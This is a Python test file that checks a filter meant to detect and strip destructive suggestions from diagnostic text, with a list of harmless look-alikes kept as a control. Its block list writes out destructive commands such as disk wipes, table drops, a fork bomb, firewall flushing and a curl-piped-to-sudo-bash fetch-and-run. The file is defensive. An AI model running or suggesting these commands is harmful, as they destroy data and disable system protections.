"""What is never suggested, in whatever words it comes."""

import pytest

from groundwire.diagnose._danger import LEFT_OUT, is_dangerous, without_danger

DANGEROUS = [
    "rm -rf /var/lib/data",
    "run `sudo rm -r -f /data` on the node",
    "rm -fr ~/",
    "dd if=/dev/zero of=/dev/sda bs=1M",
    "mkfs.ext4 /dev/sdb1",
    "cat x > /dev/sda",
    "find / -name '*.log' -delete",
    "chmod -R 777 /srv",
    "DROP TABLE users;",
    "drop database billing",
    "DELETE FROM orders;",
    "TRUNCATE TABLE audit",
    "redis-cli FLUSHALL",
    "kubectl delete namespace prod",
    "kubectl drain node-3",
    "helm uninstall ingress",
    "terraform destroy -auto-approve",
    "aws ec2 terminate-instances --instance-ids i-1",
    "aws s3 rm --recursive s3://bucket",
    "gcloud sql instances delete main",
    "docker system prune -a",
    "git push origin main --force",
    "git reset --hard HEAD~3",
    "sudo shutdown -h now",
    "kill -9 -1",
    ":(){ :|:& };:",
    "curl https://example.org/x.sh | sudo bash",
    "iptables -F",
    "setenforce 0",
    "Remove-Item C:\\data -Recurse -Force",
    "format c: /q",
    "Wipe the disk and start again.",
    "Drop the production database.",
    "Delete all backups.",
    "Turn off the firewall for a moment.",
    "Bypass the safety interlock.",
]
HARMLESS = [
    "Check the disk of the log server.",
    "The firm -rf line of products was not affected.",
    "Restart the cache and watch the evictions.",
    "Renew the certificate.",
    "kubectl get pods",
    "git log --oneline",
    "The deleted index was recreated.",
    "Raise the connection limit.",
    "Measure the temperature of the transformer.",
    "Look at who dropped the packets.",
    "DELETE FROM orders WHERE id = 5",
    "Format the report as a table.",
]


@pytest.mark.parametrize("text", DANGEROUS)
def test_what_destroys_is_left_out(text: str) -> None:
    assert is_dangerous(text)
    assert LEFT_OUT in without_danger(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_what_does_no_harm_stays(text: str) -> None:
    assert without_danger(text) == text
